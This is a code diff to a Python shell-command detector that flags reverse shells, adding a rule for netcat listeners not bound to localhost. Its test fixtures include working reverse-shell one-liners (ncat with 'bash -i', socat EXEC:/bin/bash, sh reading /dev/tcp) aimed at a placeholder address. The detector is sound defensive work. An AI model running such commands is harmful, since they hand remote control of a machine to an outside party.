@@ -13,6 +13,9 @@ from .rule import Family, approve, block
 
 REVERSE = block("reverse-shell.connected", "connects a shell to the network", "use ssh")
 PROGRAM = approve("reverse-shell.program", "lets whoever connects talk to a program of this machine")
+LISTENER = approve(
+    "reverse-shell.listener", "waits on the network for anybody to connect", "bind it to 127.0.0.1"
+)
 REDIRECTED = block("reverse-shell.redirected", "connects a shell to the network by redirections", "use ssh")
 DISPLAY = block("reverse-shell.display", "shows a terminal of this machine on another's screen")
 
@@ -57,6 +60,10 @@ def _netcat(invocation: Invocation) -> Iterator[Found]:
                 invocation.part, value.replace("\0", "?")
             )
             return
+    local = any(word in ("localhost", "127.0.0.1", "::1") for word in words)
+    listens = any(word == "--listen" or re.match(r"-[a-zA-Z]*l[a-zA-Z]*\d*\Z", word) for word in words)
+    if listens and not local:
+        yield LISTENER.found(invocation.part)
 
 
 def _socat(invocation: Invocation, words: list[str]) -> Iterator[Found]:
@@ -113,16 +120,17 @@ FAMILY = Family(
         ("ncat 203.0.113.5 4444 -c 'bash -i'", "reverse-shell.connected"),
         ("socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr", "reverse-shell.connected"),
         ("socat tcp-listen:4444,reuseaddr,fork system:'sh -i'", "reverse-shell.connected"),
+        ("nc -l 8080", "reverse-shell.listener"),
         ("nc -l 9000 -e /usr/bin/sort", "reverse-shell.program"),
         ("sh < /dev/tcp/203.0.113.5/4444", "reverse-shell.redirected"),
         ("xterm -display 203.0.113.5:1", "reverse-shell.display"),
     ),
     silent=(
-        "nc -l 8080",
+        "nc -l 127.0.0.1 8080",
         "nc -zv localhost 5432",
         "socat TCP-LISTEN:8080,fork TCP:localhost:80",
         "bash run.sh > out.log",
         "python3 server.py < input.txt",
     ),
-    rules=(REVERSE, PROGRAM, REDIRECTED, DISPLAY),
+    rules=(REVERSE, PROGRAM, LISTENER, REDIRECTED, DISPLAY),
 )
